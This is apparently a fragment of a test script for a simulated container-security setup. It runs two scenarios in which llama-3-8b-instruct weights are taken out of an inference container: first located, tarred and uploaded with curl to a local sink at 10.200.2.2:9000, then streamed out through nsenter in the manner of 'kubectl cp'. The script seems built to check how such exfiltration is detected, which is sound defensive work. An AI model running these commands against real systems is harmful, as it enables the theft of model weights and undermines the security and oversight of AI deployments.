# A8 weights archived with tar and uploaded with curl from the inference container
ctr_run simctr-infer-a8 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  find $0 -name "*.safetensors" -size +1M > /dev/null           # recon
  tar czf /tmp/w.tgz -C $0/models llama-3-8b-instruct
  curl -s -m 10 -T /tmp/w.tgz http://10.200.2.2:9000/upload -o /dev/null -w "http=%{http_code} sent=%{size_upload}\n"
  rm -f /tmp/w.tgz' "$H"
sleep 1; grep ':9000' "$H/sink.log" | tail -1
# A8b "kubectl cp" analogue: tar streamed out through the runtime exec path (no tty), captured on the node
ctr_run simctr-infer-a8b ctr-infer --mount --pid --fork --mount-proc -- sleep 20 & J=$!
sleep 1; CP=$(host_pid_of '^sleep 20$')
"$H/bin/runc" -c 'nsenter -t "$0" -m -p -- sh -c "echo \$\$ > $1/simctr-infer-a8b/cgroup.procs; exec tar cf - -C $2/models llama-3-8b-instruct"; true' "$CP" "$CGBASE" "$H" > "$H/kcp.tar"
ls -l "$H/kcp.tar"; kill "$CP"; wait "$J"
